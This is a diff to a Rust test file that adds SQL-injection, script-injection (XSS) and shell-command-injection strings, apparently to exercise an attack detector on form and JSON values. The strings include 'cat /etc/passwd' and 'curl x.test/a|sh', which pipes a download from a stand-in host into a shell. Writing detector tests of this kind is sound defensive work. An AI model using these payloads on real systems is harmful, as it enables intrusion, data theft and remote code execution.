@@ -258,6 +258,22 @@ fn what_looks_like_talk_is_judged() {
         "};insert data { <http://x> <http://y> \"z\" } #",
         "1 and exists(select password from our.users)",
         "<?xml version=\"1.0\"?><a:stylesheet xmlns:a=\"x\"><a:include href=\"http://x.test/a\"/></a:stylesheet>",
+        "<p>x</p>' or 1=1-- ",
+        "<p>x</p>' or 'a'='a</p>",
+        "x' or 1=1</p>",
+        "x' or 1 & nbsp; drop table users",
+        "x' is null or ''='",
+        "a '=' b",
+        "a '<' 1",
+        "how do I <script> alert(1)",
+        "hello <script> location='//x.test'",
+        "hello <script type=module> import'//x.test'",
+        "hello `<script>`-alert`1`",
+        "hello <script></script>",
+        "<b>x</b> hello <script> there",
+        "this & id</tmp/x",
+        "this & cat /etc/passwd</p>",
+        "this && curl x.test/a|sh</p>",
     ] {
         for carrier in [Carrier::FormValue, Carrier::JsonValue] {
             let total = judge_with(&detector, carrier, value.as_bytes()).total();
